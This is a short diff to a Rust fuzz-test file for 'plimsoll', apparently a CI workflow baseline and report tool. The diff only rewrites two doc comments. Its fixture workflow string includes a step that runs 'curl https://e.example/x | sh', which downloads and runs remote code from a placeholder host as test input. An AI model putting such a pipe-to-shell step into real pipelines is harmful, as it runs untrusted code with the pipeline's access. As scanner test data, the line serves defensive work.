@@ -1,4 +1,5 @@
-//! Any bytes as a baseline or a report: what is read reads back, the laws of deltas hold, every form is written.
+//! Any bytes as a baseline or a report: it can be read back, the invariants of deltas hold, and every format is
+//! written.
 #![no_main]
 
 use std::sync::LazyLock;
@@ -10,7 +11,7 @@ use plimsoll::{
     write_baseline,
 };
 
-/// What is compared with.
+/// The baseline to compare with.
 static NOW: LazyLock<Report> = LazyLock::new(|| {
     let workflow = "jobs: {b: {steps: [{uses: o/a@v4}, {run: curl https://e.example/x | sh}]}}\n";
     let source = MemorySource::new()
